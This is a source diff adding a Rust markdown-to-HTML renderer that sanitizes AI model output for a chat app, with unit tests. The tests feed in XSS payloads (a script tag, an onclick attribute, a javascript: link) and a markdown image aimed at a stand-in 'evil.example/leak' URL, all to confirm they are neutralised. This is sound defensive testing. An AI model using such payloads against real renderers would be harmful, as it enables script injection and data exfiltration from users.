@@ -1,0 +1,103 @@
+//! The one markdown renderer, and the only source of raw HTML in the app. Answers and thinking
+//! both go through it: [`render`] for a finished text, [`IncrementalMarkdown`] while a text
+//! streams in.
+//!
+//! Model output is hostile input, so rendering is two independent layers:
+//! 1. [`writer`] turns pulldown-cmark events into HTML and chooses every element and attribute
+//!    itself: raw HTML in the text is shown as text, images become links (a remote image would
+//!    leak data by its URL the moment it loads), link URLs must be absolute `http`, `https` or
+//!    `mailto` and are written in canonical form, table alignment is a class, not a style.
+//! 2. [`policy`] runs ammonia with an explicit allow-list over that HTML: the same elements,
+//!    attributes, classes and URL rule, plus `rel="noopener noreferrer nofollow"` and
+//!    `target="_blank"` on every link.
+//!
+//! No `cfg` and no I/O: the same code runs on the server and in the browser.
+
+mod incremental;
+mod policy;
+mod writer;
+
+use pulldown_cmark::{Options, Parser};
+
+pub use incremental::{IncrementalMarkdown, RenderStats, Update};
+
+/// CommonMark plus the GitHub extensions models use: tables, strikethrough, task lists.
+/// Footnotes, heading attributes (`{#id}`), math and metadata blocks stay off: they add ids,
+/// classes or raw blocks that model output has no use for.
+fn options() -> Options {
+    Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS
+}
+
+/// Renders markdown to sanitized HTML, safe for `inner_html`.
+///
+/// The output is well-formed (it is ammonia's serialization of a parsed tree) and stable: the
+/// same text always gives the same bytes.
+pub fn render(markdown: &str) -> String {
+    let mut html = String::with_capacity(markdown.len() + markdown.len() / 2);
+    writer::push_html(&mut html, Parser::new_ext(markdown, options()));
+    policy::clean(&html)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn ordinary_markdown_renders() {
+        assert_eq!(
+            render("**bold** and *it*"),
+            "<p><strong>bold</strong> and <em>it</em></p>\n"
+        );
+        assert!(render("- a\n- b").contains("<li>a</li>"));
+        assert!(render("| a | b |\n|---|---|\n| 1 | 2 |").contains("<td>1</td>"));
+    }
+
+    #[test]
+    fn raw_html_is_text() {
+        let out = render("<script>alert(1)</script> <b onclick=x>hi</b>");
+        assert!(!out.contains("<script"), "{out}");
+        assert!(!out.contains("<b"), "{out}");
+        assert!(out.contains("&lt;script&gt;"), "{out}");
+    }
+
+    #[test]
+    fn links_are_safe_and_open_in_a_new_tab() {
+        assert_eq!(
+            render("[x](https://example.com)"),
+            "<p><a href=\"https://example.com/\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a></p>\n"
+        );
+        assert_eq!(render("[x](javascript:alert(1))"), "<p>x</p>\n");
+        assert_eq!(render("[x](/api/chat)"), "<p>x</p>\n");
+    }
+
+    #[test]
+    fn images_become_links() {
+        assert_eq!(
+            render("![secret *alt*](https://evil.example/leak?data=1 \"t\")"),
+            "<p><a class=\"md-image\" href=\"https://evil.example/leak?data=1\" title=\"t\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">🖼 secret alt</a></p>\n"
+        );
+        assert_eq!(
+            render("[![logo](https://x.example/l.png)](https://x.example)"),
+            "<p><a href=\"https://x.example/\" target=\"_blank\" rel=\"noopener noreferrer nofollow\"><span class=\"md-image\">🖼 logo</span></a></p>\n"
+        );
+    }
+
+    #[test]
+    fn code_blocks_get_a_label_and_a_copy_button() {
+        assert_eq!(
+            render("```rust\nfn main() {}\n```"),
+            "<div class=\"code-block\"><div class=\"code-head\"><span class=\"code-lang\">rust</span>\
+             <button class=\"copy-code\" type=\"button\" aria-label=\"Copy code\">Copy</button></div>\
+             <pre><code class=\"language-rust\">fn main() {}\n</code></pre></div>\n"
+        );
+    }
+
+    #[test]
+    fn table_alignment_is_a_class() {
+        assert_eq!(
+            render("| a | b |\n|:-:|--:|\n| 1 | 2 |"),
+            "<table><thead><tr><th class=\"align-center\">a</th><th class=\"align-right\">b</th></tr></thead><tbody>\n\
+             <tr><td class=\"align-center\">1</td><td class=\"align-right\">2</td></tr>\n</tbody></table>\n"
+        );
+    }
+}
